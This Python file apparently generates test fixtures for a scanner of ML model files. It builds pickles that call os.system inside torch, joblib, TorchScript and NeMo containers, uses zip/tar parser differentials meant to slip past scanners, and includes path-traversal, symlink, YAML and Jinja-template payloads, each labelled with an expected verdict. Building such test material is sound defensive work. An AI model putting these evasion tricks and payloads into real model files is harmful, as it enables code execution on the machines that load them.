"""Hostile containers: archives whose two readings differ, paths that lead out, pickles under several layers, bombs."""

import bz2
import dataclasses
import gzip
import io
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from typing import Optional

import numpy

from opcodes import Call, G, Raw, dumps, encode, global_, proto


def make(corpus):
    torch_zip(corpus)
    torch_other(corpus)
    zips(corpus)
    tars(corpus)
    joblibs(corpus)
    compressed(corpus)
    nested(corpus)
    bombs(corpus)
    serving(corpus)


def call(payload, protocol=2):
    return dumps(Call(G("os", "system"), payload.command), protocol)


# -- a zip writer that lies as told


@dataclasses.dataclass
class Entry:
    """One member; what is None is told truly, and the central directory repeats the local header unless told otherwise."""

    name: bytes
    octets: bytes = b""
    method: int = 0
    flags: int = 0
    crc: Optional[int] = None
    central_name: Optional[bytes] = None
    central_flags: Optional[int] = None
    central_method: Optional[int] = None
    central_size: Optional[int] = None
    local_size: Optional[int] = None
    attributes: int = 0
    made_by: int = 20
    listed: bool = True
    has_local: bool = True
    offset: Optional[int] = None
    extra: bytes = b""


def write_zip(entries, prefix=b"", between=b"", comment=b"", behind=b"", count=None):
    out = bytearray(prefix)
    directory = bytearray()
    listed = 0
    for entry in entries:
        packed = entry.octets
        if entry.method == 8:
            packer = zlib.compressobj(9, zlib.DEFLATED, -15)
            packed = packer.compress(entry.octets) + packer.flush()
        crc = zlib.crc32(entry.octets) if entry.crc is None else entry.crc
        size = len(entry.octets)
        offset = len(out) if entry.offset is None else entry.offset
        if entry.has_local:
            local = size if entry.local_size is None else entry.local_size
            out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, entry.flags, entry.method, 0, 33, crc, len(packed) if entry.local_size is None else local, local, len(entry.name), len(entry.extra))
            out += entry.name + entry.extra + packed
        if entry.listed:
            name = entry.name if entry.central_name is None else entry.central_name
            flags = entry.flags if entry.central_flags is None else entry.central_flags
            method = entry.method if entry.central_method is None else entry.central_method
            central = size if entry.central_size is None else entry.central_size
            directory += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, entry.made_by, 20, flags, method, 0, 33, crc, len(packed), central, len(name), len(entry.extra), 0, 0, 0, entry.attributes, offset)
            directory += name + entry.extra
            listed += 1
    out += between
    start = len(out)
    out += directory
    count = listed if count is None else count
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(directory), start, len(comment)) + comment
    return bytes(out + behind)


STATE = dumps({"epoch": 3}, 2)


def torch_members(pickled):
    return [
        Entry(b"archive/data.pkl", pickled),
        Entry(b"archive/.format_version", b"1"),
        Entry(b"archive/byteorder", b"little"),
        Entry(b"archive/version", b"3\n"),
    ]


def torch_zip(corpus):
    def add(slug, build, expected, what, loader="torch", form="pytorch_zip", extension="pt"):
        corpus.hostile(f"torch-{slug}.{extension}", build, expected, form, what, loader)

    add("call", lambda p: write_zip(torch_members(call(p))), "malicious", "a torch archive whose pickle calls os.system")
    add("call-bin", lambda p: write_zip(torch_members(call(p))), "malicious", "the same named .bin", extension="bin")
    add("call-safetensors", lambda p: write_zip(torch_members(call(p))), "malicious", "the same named .safetensors", extension="safetensors")
    add("call-deflated", lambda p: write_zip([dataclasses.replace(torch_members(call(p))[0], method=8)] + torch_members(call(p))[1:]), "malicious", "the pickle is deflated")
    add("crc", lambda p: write_zip([dataclasses.replace(torch_members(call(p))[0], crc=0x12345678)] + torch_members(call(p))[1:]), "malicious", "the pickle's checksum is wrong: zipfile refuses, torch loads")
    add("crc-zero", lambda p: write_zip([dataclasses.replace(torch_members(call(p))[0], crc=0)] + torch_members(call(p))[1:]), "malicious", "the pickle's checksum is zero")
    add("local-name", lambda p: write_zip([dataclasses.replace(torch_members(call(p))[0], name=b"archive/data.txt", central_name=b"archive/data.pkl")] + torch_members(call(p))[1:]), "malicious", "the local header has another name")
    add("local-name-hidden", lambda p: write_zip([dataclasses.replace(torch_members(call(p))[0], central_name=b"archive/data.txt")] + torch_members(STATE)), "malicious", "the directory names the hostile member .txt, the local header data.pkl", None)
    add("flag-local", lambda p: write_zip([dataclasses.replace(torch_members(call(p))[0], flags=1, central_flags=0)] + torch_members(call(p))[1:]), "malicious", "the encryption bit is set in the local header only")
    add("flag-central", lambda p: write_zip([dataclasses.replace(torch_members(call(p))[0], flags=0, central_flags=1)] + torch_members(call(p))[1:]), "malicious", "the encryption bit is set in the directory only")
    add("flag-both", lambda p: write_zip([dataclasses.replace(torch_members(call(p))[0], flags=1)] + torch_members(call(p))[1:]), "malicious", "the encryption bit is set, the content is stored plainly")
    add("flag-patch", lambda p: write_zip([dataclasses.replace(torch_members(call(p))[0], flags=0x20)] + torch_members(call(p))[1:]), "malicious", "the bit of patch data is set, the content is stored plainly")
    add("flag-strong", lambda p: write_zip([dataclasses.replace(torch_members(call(p))[0], flags=0x41)] + torch_members(call(p))[1:]), "malicious", "the bit of strong encryption is set, the content is stored plainly")
    add("method-lie", lambda p: write_zip([dataclasses.replace(torch_members(call(p))[0], central_method=99)] + torch_members(call(p))[1:]), "not-clean", "the directory states a method there is none of")
    add("size-lie", lambda p: write_zip([dataclasses.replace(torch_members(call(p))[0], central_size=4)] + torch_members(call(p))[1:]), "not-clean", "the directory states four octets")
    add("prefix", lambda p: write_zip(torch_members(call(p)), prefix=b"#!/bin/true\n"), "malicious", "octets before the archive", form="*")
    add("prefix-pickle", lambda p: write_zip(torch_members(STATE), prefix=call(p)), "malicious", "a hostile pickle before a harmless archive: torch decides by the first octets", "torch", form="*")
    add("prefix-harmless-pickle", lambda p: write_zip(torch_members(call(p)), prefix=STATE), "malicious", "a harmless pickle before a hostile archive", None, form="*")
    add("behind", lambda p: write_zip(torch_members(STATE), behind=call(p)), "malicious", "a hostile pickle behind the archive", None, form="*")
    add("comment", lambda p: write_zip(torch_members(STATE), comment=call(p)), "malicious", "a hostile pickle as the archive's comment", None)
    add("comment-zip", lambda p: write_zip(torch_members(STATE), comment=write_zip(torch_members(call(p)))), "malicious", "a hostile archive as the archive's comment", None, form="*")
    add("between", lambda p: write_zip(torch_members(STATE), between=call(p)), "not-clean", "a hostile pickle between members and directory", None)
    add("duplicate", lambda p: write_zip(torch_members(STATE) + [Entry(b"archive/data.pkl", call(p))]), "malicious", "data.pkl twice, the second hostile")
    add("duplicate-first", lambda p: write_zip([Entry(b"archive/data.pkl", call(p))] + torch_members(STATE)), "malicious", "data.pkl twice, the first hostile", None)
    add("unlisted", lambda p: write_zip([dataclasses.replace(torch_members(call(p))[0], listed=False)] + torch_members(STATE)), "malicious", "a local header with a hostile pickle that the directory does not list", None)
    add("shared-offset", lambda p: write_zip(torch_members(call(p)) + [Entry(b"archive/copy.pkl", call(p), has_local=False, offset=0)]), "malicious", "two entries of the directory share a local header", None)

    def overlapping(payload):
        inner = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 33, zlib.crc32(call(payload)), len(call(payload)), len(call(payload)), 16, 0) + b"archive/data.pkl" + call(payload)
        carrier = Entry(b"archive/data/0", inner)
        at = 30 + len(carrier.name)
        return write_zip([carrier, Entry(b"archive/data.pkl", call(payload), has_local=False, offset=at), Entry(b"archive/version", b"3\n")])

    add("overlap", overlapping, "malicious", "data.pkl lies inside another member", None)
    add("folder", lambda p: write_zip([Entry(b"../data.pkl", call(p)), Entry(b"../version", b"3\n")]), "malicious", "the archive's folder is ..", None, form="*")
    add("other-member", lambda p: write_zip(torch_members(STATE) + [Entry(b"archive/extra.bin", call(p))]), "malicious", "a hostile pickle beside data.pkl", None)
    add("storage", lambda p: write_zip(torch_members(STATE) + [Entry(b"archive/data/0", call(p, 4))]), "malicious", "a storage that is a hostile pickle", None)
    add("storage-zip", lambda p: write_zip(torch_members(STATE) + [Entry(b"archive/data/0", write_zip(torch_members(call(p))))]), "malicious", "a storage that is a hostile archive", None)
    add("no-end", lambda p: write_zip(torch_members(call(p)))[:-10], "not-clean", "the end record is cut off: torch refuses, others recover", None)
    add("second-pickle", lambda p: write_zip(torch_members(STATE + call(p))), "malicious", "data.pkl holds a second, hostile pickle", None)
    add("persid-path", lambda p: write_zip(torch_members(proto(2) + encode(("storage", G("torch", "FloatStorage"), "../../nonexistent", "cpu", 4), 2) + b"Q.")), "not-clean", "a storage key that leads out", None)
    add("persid-other", lambda p: write_zip(torch_members(proto(2) + encode(("module", G("posix", "system"), "x"), 2) + b"Q.")), "malicious", "a persistent id that names posix.system", None)
    add("persid-type", lambda p: write_zip(torch_members(proto(2) + encode(("storage", G("subprocess", "Popen"), "0", "cpu", 4), 2) + b"Q.")), "malicious", "the storage's class is subprocess.Popen", None)
    add("load-from-bytes", lambda p: write_zip(torch_members(dumps(Call(G("torch.storage", "_load_from_bytes"), call(p)), 3))), "malicious", "torch.storage._load_from_bytes in a torch archive", "torch")
    add("slash-name", lambda p: write_zip([Entry(b"archive\\data.pkl", call(p)), Entry(b"archive\\version", b"3\n")]), "malicious", "names with backslashes", None, form="*")
    add("case", lambda p: write_zip([Entry(b"archive/DATA.PKL", call(p)), Entry(b"archive/version", b"3\n")]), "malicious", "the pickle's name in capitals", None, form="*")
    add("count", lambda p: write_zip(torch_members(call(p)), count=1), "not-clean", "the end record counts fewer members than there are", None)
    add("zip64-lie", lambda p: write_zip([dataclasses.replace(torch_members(call(p))[0], extra=struct.pack("<HHQQ", 1, 16, 2**62, 2**62), central_size=0xFFFFFFFF)] + torch_members(STATE)[1:]), "not-clean", "zip64 sizes of exabytes", None)

    def scripted(code):
        return write_zip([
            Entry(b"m/data.pkl", proto(2) + global_("__torch__", "M") + b")\x81}b."),
            Entry(b"m/constants.pkl", dumps((), 2)),
            Entry(b"m/code/__torch__.py", code),
            Entry(b"m/version", b"3\n"),
        ])

    code = b"class M(Module):\n  __parameters__ = []\n  __buffers__ = []\n  def forward(self, x: Tensor) -> Tensor:\n    return %s\n"
    for slug, expression in [("from-file", b'torch.from_file("/nonexistent/mreg", False, 4)'), ("save", b'torch.save(x, "/nonexistent/mreg")'), ("ops-save", b'ops.aten.save(x, "/nonexistent/mreg")'), ("ops-from-file", b'ops.aten.from_file("/nonexistent/mreg", False, 4)')]:
        corpus.hostile(f"torchscript-{slug}.pt", scripted(code % expression), "suspicious", "torchscript", f"TorchScript that calls {expression.decode().split('(')[0]}")
    hostile_constants = lambda p: write_zip([Entry(b"m/data.pkl", STATE), Entry(b"m/constants.pkl", call(p)), Entry(b"m/version", b"3\n")])
    corpus.hostile("torchscript-constants.pt", hostile_constants, "malicious", "torchscript", "constants.pkl calls os.system")
    corpus.hostile("torchscript-attributes.pt", lambda p: write_zip([Entry(b"m/data.pkl", STATE), Entry(b"m/constants.pkl", dumps((), 2)), Entry(b"m/attributes.pkl", call(p)), Entry(b"m/version", b"3\n")]), "malicious", "torchscript", "attributes.pkl calls os.system")
    package = lambda p: write_zip([Entry(b"p/.data/extern_modules", b"os\n"), Entry(b"p/.data/version", b"6\n"), Entry(b"p/m/code.py", b"import os\nos.system('true')\n"), Entry(b"p/model/model.pkl", dumps(G("m.code", "M"), 2))])
    corpus.hostile("torch-package.pt", package, "suspicious", "zip", "torch.package: Python source and a pickle that uses it")


def torch_other(corpus):
    magic = proto(2) + b"\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."
    version = dumps(1001, 2)
    system = dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, 2)
    keys = dumps([], 2)

    def add(slug, build, expected, what, loader="torch", form="pytorch_legacy"):
        corpus.hostile(f"torch-legacy-{slug}.pt", build, expected, form, what, loader)

    add("object", lambda p: magic + version + system + call(p) + keys, "malicious", "the object of a legacy file calls os.system")
    add("keys", lambda p: magic + version + system + STATE + call(p), "malicious", "the keys of a legacy file call os.system")
    add("system", lambda p: magic + version + call(p) + STATE + keys, "malicious", "the system record of a legacy file calls os.system")
    add("magic-computed", lambda p: proto(2) + encode(Call(G("os", "system"), p.command), 2) + b"0\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19." + version + system + STATE + keys, "malicious", "the magic number is preceded by a call in its own pickle", form="*")
    add("trailing", lambda p: magic + version + system + STATE + keys + b"more octets than the keys need", "not-clean", "octets behind a legacy file", None)
    add("trailing-pickle", lambda p: magic + version + system + STATE + keys + call(p, 4), "malicious", "a hostile pickle behind a legacy file", None)
    add("magic-int", lambda p: proto(2) + global_("builtins", "int") + encode(("119547037146038801333356",), 2) + b"R." + version + system + call(p) + keys, "malicious", "the magic number is computed by int()", "torch", form="*")
    add("magic-int-harmless", lambda p: proto(2) + global_("builtins", "int") + encode(("119547037146038801333356",), 2) + b"R." + version + system + STATE + keys, "not-clean", "the magic number is computed, the rest is harmless", None, form="*")

    def tar(payload):
        return tarred([("sys_info", dumps({}, 2)), ("pickle", call(payload)), ("storages", dumps(0, 2)), ("tensors", dumps(0, 2))])

    corpus.hostile("torch-tar.pt", tar, "malicious", "tar", "the tar format of torch 0.1 with a hostile pickle", "torch")
    corpus.hostile("torch-tar-storages.pt", lambda p: tarred([("sys_info", dumps({}, 2)), ("pickle", STATE), ("storages", call(p)), ("tensors", dumps(0, 2))]), "malicious", "tar", "the same, with the storages hostile", None)


# -- zip and tar


def zips(corpus):
    def add(slug, octets, expected, what, form="zip"):
        corpus.hostile(f"zip-{slug}.zip", octets, expected, form, what)

    text = b"text\n"
    for slug, name in [
        ("slip", b"../../nonexistent/mreg"), ("slip-inside", b"a/../../nonexistent"), ("slip-backslash", b"..\\..\\nonexistent\\mreg"),
        ("slip-mixed", b"a\\../..\\nonexistent"), ("absolute", b"/nonexistent/mreg"), ("drive", b"C:\\nonexistent\\mreg"), ("drive-slash", b"c:/nonexistent"),
        ("unc", b"\\\\host\\share\\mreg"), ("nul", b"model.txt\0/../../nonexistent"), ("dot-dot-only", b".."), ("dot-dot-end", b"a/.."),
    ]:
        add(slug, write_zip([Entry(b"ok.txt", text), Entry(name, text)]), "malicious", f"a member named {name.decode()!r}".replace("\\", "/"))
    unicode_path = struct.pack("<HHBI", 0x7075, 5 + 22, 1, zlib.crc32(b"ok.txt")) + b"../../nonexistent/mreg"
    add("unicode-path", write_zip([Entry(b"ok.txt", text, extra=unicode_path)]), "not-clean", "the Unicode path field leads out, the name does not")
    add("symlink", write_zip([Entry(b"link", b"/nonexistent/mreg", attributes=0o120777 << 16, made_by=0x0314)]), "malicious", "a symbolic link")
    add("symlink-then-file", write_zip([Entry(b"link", b"/nonexistent", attributes=0o120777 << 16, made_by=0x0314), Entry(b"link/mreg", text)]), "malicious", "a symbolic link, then a member through it")
    add("symlink-inside", write_zip([Entry(b"link", b"ok.txt", attributes=0o120777 << 16, made_by=0x0314), Entry(b"ok.txt", text)]), "malicious", "a symbolic link that stays inside")
    add("pickle", lambda p: write_zip([Entry(b"a.txt", text), Entry(b"model.pkl", call(p))]), "malicious", "a hostile pickle in a zip")
    add("pickle-disguised", lambda p: write_zip([Entry(b"weights.safetensors", call(p, 4))]), "malicious", "a hostile pickle in a zip, named .safetensors")
    add("pickle-nameless", lambda p: write_zip([Entry(b"", call(p, 0))]), "malicious", "a hostile pickle in a member without a name")
    add("encrypted", write_zip([Entry(b"a.bin", bytes(range(12)) + b"secret octets", flags=1, method=0)]), "unscannable", "an encrypted member")
    add("method-unknown", write_zip([Entry(b"a.bin", b"packed", method=97)]), "unscannable", "a method there is none of here")
    add("mismatch-size", write_zip([Entry(b"a.txt", text * 10, local_size=7), Entry(b"b.txt", text)]), "not-clean", "local and central size differ")
    add("duplicate", write_zip([Entry(b"a.txt", text), Entry(b"a.txt", b"other\n")]), "suspicious", "one name twice")
    add("unlisted", write_zip([Entry(b"a.txt", text), Entry(b"hidden.txt", text, listed=False), Entry(b"b.txt", text)]), "malicious", "a local header that the directory does not list")
    add("crc", write_zip([Entry(b"a.txt", text, crc=1)]), "suspicious", "a wrong checksum")
    add("offset-outside", write_zip([Entry(b"a.txt", text, offset=2**31)]), "not-clean", "an entry that points behind the file")
    add("directory-empty", write_zip([Entry(b"a.pkl", call_inert(), listed=False)]), "malicious", "the directory is empty, the local header is there", "*")
    add("comment-end", write_zip([Entry(b"a.txt", text)], comment=b"PK\5\6" + bytes(18)), "not-clean", "the comment is an end record of its own", "*")
    add("prefix", write_zip([Entry(b"a.txt", text)], prefix=b"x" * 100), "not-clean", "octets before the archive", "*")
    add("behind", write_zip([Entry(b"a.txt", text)], behind=b"x" * 100), "not-clean", "octets behind the archive", "*")
    two = write_zip([Entry(b"a.txt", text)]) + write_zip([Entry(b"b.txt", text)])
    add("two", two, "not-clean", "two archives, one behind the other", "*")
    add("truncated", write_zip([Entry(b"a.txt", text * 20, method=8)])[:40], "not-clean", "the file ends inside a member", "*")
    descriptor = write_zip([Entry(b"a.txt", text, flags=8, local_size=0)])
    add("descriptor-lie", descriptor, "not-clean", "sizes are said to follow and do not")
    add("deflate-broken", write_zip([Entry(b"a.bin", b"\xff" * 40, central_method=8)]), "not-clean", "deflated octets that are none")


def call_inert():
    return dumps(Call(G("os", "system"), "true"), 2)


def tarred(members, mode="w", form=tarfile.USTAR_FORMAT):
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode, format=form) as archive:
        for member in members:
            if isinstance(member, tarfile.TarInfo):
                archive.addfile(member)
                continue
            name, octets = member
            info = tarfile.TarInfo(name)
            info.size = len(octets)
            archive.addfile(info, io.BytesIO(octets))
    return buffer.getvalue()


def special(name, kind, target="", device=None):
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = target
    if device:
        info.devmajor, info.devminor = device
    return info


def tars(corpus):
    def add(slug, octets, expected, what, form="tar", extension="tar"):
        corpus.hostile(f"tar-{slug}.{extension}", octets, expected, form, what)

    ok = ("model/ok.txt", b"text\n")
    add("slip", tarred([ok, ("../../nonexistent/mreg", b"x")]), "malicious", "a member leads out")
    add("slip-inside", tarred([ok, ("model/../../nonexistent", b"x")]), "malicious", "a member leads out by its middle")
    add("absolute", tarred([ok, ("/nonexistent/mreg", b"x")]), "malicious", "an absolute member")
    add("symlink-out", tarred([ok, special("model/link", tarfile.SYMTYPE, "../../nonexistent")]), "malicious", "a symbolic link that leads out")
    add("symlink-absolute", tarred([ok, special("model/link", tarfile.SYMTYPE, "/nonexistent/mreg")]), "malicious", "an absolute symbolic link")
    add("through-link", tarred([special("model", tarfile.SYMTYPE, "/nonexistent"), ("model/mreg", b"x")]), "malicious", "a member through a symbolic link")
    add("link-chain", tarred([special("a", tarfile.SYMTYPE, "."), special("a/b", tarfile.SYMTYPE, ".."), ("a/b/nonexistent", b"x")]), "malicious", "links that lead out together")
    add("hard-link", tarred([ok, special("model/hard", tarfile.LNKTYPE, "/nonexistent/mreg")]), "malicious", "a hard link to a file of the host")
    add("hard-link-inside", tarred([ok, special("model/hard", tarfile.LNKTYPE, "model/ok.txt")]), "malicious", "a hard link inside")
    add("device", tarred([ok, special("model/null", tarfile.CHRTYPE, device=(1, 3))]), "malicious", "a device")
    add("block-device", tarred([ok, special("model/disk", tarfile.BLKTYPE, device=(8, 0))]), "malicious", "a block device")
    add("fifo", tarred([ok, special("model/pipe", tarfile.FIFOTYPE)]), "not-clean", "a pipe")
    add("pickle", lambda p: tarred([ok, ("model/model.pkl", call(p))]), "malicious", "a hostile pickle in a tar")
    add("pickle-disguised", lambda p: tarred([ok, ("model/weights.txt", call(p, 0))]), "malicious", "a hostile pickle in a tar, named .txt")
    pax = tarfile.TarInfo("harmless.txt")
    pax.pax_headers = {"path": "../../nonexistent/mreg"}
    add("pax-path", tarred([pax], form=tarfile.PAX_FORMAT), "malicious", "the extended header's path leads out")
    add("gnu-long-name", tarred([("../" * 60 + "nonexistent", b"x")], form=tarfile.GNU_FORMAT), "malicious", "a long name of GNU tar leads out")
    add("gz-pickle", lambda p: gzip.compress(tarred([ok, ("model/model.pkl", call(p))]), mtime=0), "malicious", "a hostile pickle in a compressed tar", "gzip", "tar.gz")
    add("gz-slip", gzip.compress(tarred([ok, ("../nonexistent", b"x")]), mtime=0), "malicious", "a member of a compressed tar leads out", "gzip", "tar.gz")
    add("xz-pickle", lambda p: lzma.compress(tarred([ok, ("model/model.pkl", call(p))])), "malicious", "a hostile pickle in a tar in xz", "xz", "tar.xz")
    add("bz2-pickle", lambda p: bz2.compress(tarred([ok, ("model/model.pkl", call(p))])), "malicious", "a hostile pickle in a tar in bzip2", "bzip2", "tar.bz2")
    two = tarred([ok]) + tarred([("second.pkl", call_inert())])
    add("behind-end", two, "malicious", "a second tar behind the end of the first")
    add("checksum", corrupted(tarred([ok, ("model/a.bin", b"x" * 600)]), 1024 + 150), "not-clean", "the second header's checksum is wrong")
    add("truncated", tarred([("model/a.bin", b"x" * 4000)])[:2000], "not-clean", "the file ends inside a member")
    nemo = lambda p: tarred([("./model_config.yaml", b"model:\n  _target_: os.system\n  _args_: ['true']\n"), ("./model_weights.ckpt", write_zip(torch_members(STATE)))])
    corpus.hostile("nemo-target.nemo", nemo, "malicious", "tar", "a NeMo archive whose configuration has os.system as target")
    corpus.hostile("nemo-weights.nemo", lambda p: tarred([("./model_config.yaml", b"sample_rate: 16000\n"), ("./model_weights.ckpt", write_zip(torch_members(call(p))))]), "malicious", "tar", "a NeMo archive whose weights are hostile")
    corpus.hostile("nemo-gz-target.nemo", gzip.compress(tarred([("./model_config.yaml", b"model:\n  _target_: builtins.exec\n")]), mtime=0), "malicious", "gzip", "the same compressed")


def corrupted(octets, at):
    changed = bytearray(octets)
    changed[at] ^= 0x01
    return bytes(changed)


# -- joblib


def array_wrapper(dtype, shape):
    """The object that stands before an array's octets in a joblib file, without padding as old joblib wrote it."""
    body = global_("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81"
    state = {
        "subclass": G("numpy", "ndarray"), "shape": shape, "order": "C",
        "dtype": Raw(pickle.dumps(numpy.dtype(dtype), 2)[2:-1]),
        "allow_mmap": False, "numpy_array_alignment_bytes": None,
    }
    return body + encode(state, 2) + b"b"


def joblibs(corpus):
    import joblib

    class Reduced:
        def __init__(self, function, arguments):
            self.made = (function, arguments)

        def __reduce__(self):
            return self.made

    def dumped(value, **options):
        import tempfile
        from pathlib import Path

        with tempfile.TemporaryDirectory() as scratch:
            path = Path(scratch) / "f.joblib"
            joblib.dump(value, path, **options)
            return path.read_bytes()

    def hook(payload):
        import os

        return Reduced(os.system, (payload.command,))

    def add(slug, build, expected, what, form="pickle", loader="joblib"):
        corpus.hostile(f"joblib-{slug}.joblib", build, expected, form, what, loader)

    add("call", lambda p: dumped({"w": [1, 2], "hook": hook(p)}), "malicious", "a joblib file that calls os.system")
    add("behind-array", lambda p: dumped([numpy.arange(64.0), hook(p)]), "malicious", "the call stands behind an array's octets")
    add("behind-arrays", lambda p: dumped([numpy.arange(64.0), numpy.ones((3, 5), "f4"), numpy.zeros(0), numpy.arange(7, dtype="i1"), hook(p)]), "malicious", "the call stands behind four arrays")
    add("before-array", lambda p: dumped([hook(p), numpy.arange(64.0)]), "malicious", "the call stands before an array")
    add("array-like-stop", lambda p: dumped([numpy.frombuffer(b"....N.N." * 8, "u1"), hook(p)]), "malicious", "the array's octets look like the end of a pickle")
    add("array-like-pickle", lambda p: dumped([numpy.frombuffer(dumps([1, 2], 4) * 4, "u1"), hook(p)]), "malicious", "the array's octets look like harmless pickles")
    add("object-array", lambda p: dumped({"o": numpy.array([hook(p), 1], dtype=object)}), "malicious", "the call is an element of an object array")
    add("behind-object-array", lambda p: dumped([numpy.array(["a", None], dtype=object), hook(p)]), "malicious", "the call stands behind an object array")
    add("behind-structured", lambda p: dumped([numpy.zeros(3, [("a", "<i4"), ("b", "<f8")]), hook(p)]), "malicious", "the call stands behind a structured array")
    add("behind-fortran", lambda p: dumped([numpy.asfortranarray(numpy.ones((4, 3))), hook(p)]), "malicious", "the call stands behind a Fortran-ordered array")
    add("estimator", lambda p: dumped(function_transformer(p)), "malicious", "an estimator that holds os.system", loader=None)
    for method, form in [("zlib", "zlib"), ("gzip", "gzip"), ("bz2", "bzip2"), ("xz", "xz"), ("lzma", "lzma"), ("lz4", "lz4")]:
        add(f"call-{method}", lambda p, method=method: dumped([numpy.arange(9.0), hook(p)], compress=(method, 3)), "malicious", f"compressed with {method}, the call behind an array", form)
    add("zlib-twice", lambda p: zlib.compress(zlib.compress(dumped([numpy.arange(9.0), hook(p)]))), "malicious", "compressed twice", "zlib", None)
    add("gzip-bz2-xz", lambda p: gzip.compress(bz2.compress(lzma.compress(dumped([hook(p)]))), mtime=0), "malicious", "compressed three times", "gzip", None)
    add("call-p0", lambda p: dumped([1, hook(p)], protocol=0), "malicious", "joblib with protocol 0")
    add("p2-array", lambda p: dumped([numpy.arange(5.0), hook(p)], protocol=2), "malicious", "joblib with protocol 2")

    def unaligned(payload):
        return proto(2) + b"(" + array_wrapper("<f8", (4,)) + numpy.arange(4.0).tobytes() + encode(Call(G("os", "system"), payload.command), 2) + b"l."

    add("no-alignment", unaligned, "malicious", "an array as old joblib wrote it, without padding")
    add("shape-lie", lambda p: proto(2) + b"(" + array_wrapper("<f8", (2**40,)) + call(p)[2:-1] + b"l.", "not-clean", "an array that claims eight terabytes", loader=None)
    add("shape-overflow", lambda p: proto(2) + b"(" + array_wrapper("u1", (2**31, 2**31, 4)) + call(p)[2:-1] + b"l.", "not-clean", "an array whose size wraps", loader=None)
    add("array-truncated", lambda p: dumped([hook(p), numpy.arange(512.0)])[:-2000], "malicious", "the file ends inside an array, behind the call")


def function_transformer(payload):
    import os

    from sklearn.preprocessing import FunctionTransformer

    return FunctionTransformer(os.system)


# -- compression and nesting


def compressed(corpus):
    import lz4.frame
    import zstandard

    def add(name, build, expected, form, what):
        corpus.hostile(name, build, expected, form, what)

    add("packed.pkl.gz", lambda p: gzip.compress(call(p), mtime=0), "malicious", "gzip", "a hostile pickle in gzip")
    add("packed.pkl.bz2", lambda p: bz2.compress(call(p)), "malicious", "bzip2", "a hostile pickle in bzip2")
    add("packed.pkl.xz", lambda p: lzma.compress(call(p)), "malicious", "xz", "a hostile pickle in xz")
    add("packed.pkl.lzma", lambda p: lzma.compress(call(p), lzma.FORMAT_ALONE), "malicious", "lzma", "a hostile pickle in lzma")
    add("packed.pkl.z", lambda p: zlib.compress(call(p)), "malicious", "zlib", "a hostile pickle in zlib")
    add("packed.pkl.zst", lambda p: zstandard.compress(call(p)), "malicious", "zstd", "a hostile pickle in zstd")
    add("packed.pkl.lz4", lambda p: lz4.frame.compress(call(p)), "malicious", "lz4", "a hostile pickle in lz4")
    add("packed-members.pkl.gz", lambda p: gzip.compress(STATE, mtime=0) + gzip.compress(call(p), mtime=0), "malicious", "gzip", "two gzip members, the second a hostile pickle")
    add("packed-members.pkl.bz2", lambda p: bz2.compress(STATE) + bz2.compress(call(p)), "malicious", "bzip2", "two bzip2 streams, the second a hostile pickle")
    add("packed-members.pkl.xz", lambda p: lzma.compress(STATE) + lzma.compress(call(p)), "malicious", "xz", "two xz streams, the second a hostile pickle")
    add("packed-frames.pkl.zst", lambda p: zstandard.compress(STATE) + zstandard.compress(call(p)), "malicious", "zstd", "two zstd frames, the second a hostile pickle")
    skippable = struct.pack("<II", 0x184D2A50, 8) + bytes(8)
    add("packed-skippable.pkl.zst", lambda p: skippable + zstandard.compress(call(p)), "malicious", "zstd", "a skippable frame before a hostile pickle in zstd")
    add("packed-behind.pkl.gz", lambda p: gzip.compress(STATE, mtime=0) + call(p), "malicious", "gzip", "a hostile pickle behind a gzip member")
    add("packed-checksum.pkl.gz", lambda p: corrupted(gzip.compress(call(p), mtime=0), -6), "malicious", "gzip", "a hostile pickle in gzip with a wrong checksum: streaming readers fail behind it")
    add("packed-truncated.pkl.gz", lambda p: gzip.compress(call(p) + bytes(range(256)) * 8, mtime=0)[:-40], "malicious", "gzip", "a hostile pickle in gzip that ends early")
    add("packed-named.safetensors", lambda p: gzip.compress(call(p), mtime=0), "malicious", "gzip", "a hostile pickle in gzip, named .safetensors")
    add("packed-state.pkl.gz", gzip.compress(b"\x1f\x8b\x08\x00broken", mtime=0), "not-clean", "gzip", "gzip in gzip, broken")


def nested(corpus):
    def add(slug, build, expected, what, form="zip", extension="zip"):
        corpus.hostile(f"nested-{slug}.{extension}", build, expected, form, what)

    add("zip-zip", lambda p: write_zip([Entry(b"a.zip", write_zip([Entry(b"m.pkl", call(p))]))]), "malicious", "a hostile pickle in a zip in a zip")
    add("zip-tar-gz", lambda p: write_zip([Entry(b"a.tgz", gzip.compress(tarred([("m.pkl", call(p))]), mtime=0))]), "malicious", "a hostile pickle in a compressed tar in a zip")
    add("tar-torch", lambda p: tarred([("m.pt", write_zip(torch_members(call(p))))]), "malicious", "a torch archive in a tar", "tar", "tar")
    add("zip-torch-disguised", lambda p: write_zip([Entry(b"README.md", write_zip(torch_members(call(p))), 8)]), "malicious", "a torch archive in a zip, named README.md")
    add("zip-npy", lambda p: write_zip([Entry(b"a.npy", npy_object(p))]), "malicious", "an object array in a zip", "npz")
    add("zip-joblib-zlib", lambda p: write_zip([Entry(b"model.joblib", zlib.compress(call(p)))]), "malicious", "a compressed joblib file in a zip")
    add("zip-script", write_zip([Entry(b"modeling.py", b"import os\n"), Entry(b"config.json", b"{}")]), "suspicious", "Python source in a zip")
    add("zip-slip-inside", write_zip([Entry(b"a.zip", write_zip([Entry(b"../../nonexistent", b"x")]))]), "malicious", "a path that leads out in a zip in a zip")
    add("zip-yaml", write_zip([Entry(b"config.yaml", b"a: !!python/object/apply:os.system ['true']\n")]), "malicious", "a Python call in YAML in a zip")
    add("zip-jinja", write_zip([Entry(b"tokenizer_config.json", b'{"chat_template": "{{ lipsum.__globals__ }}"}')]), "malicious", "a hostile chat template in a zip")

    def deep(payload, depth=12):
        octets = call(payload)
        for _ in range(depth):
            octets = write_zip([Entry(b"a.zip", octets)])
        return octets

    add("deep-zip", deep, "not-clean", "a hostile pickle under twelve zips")

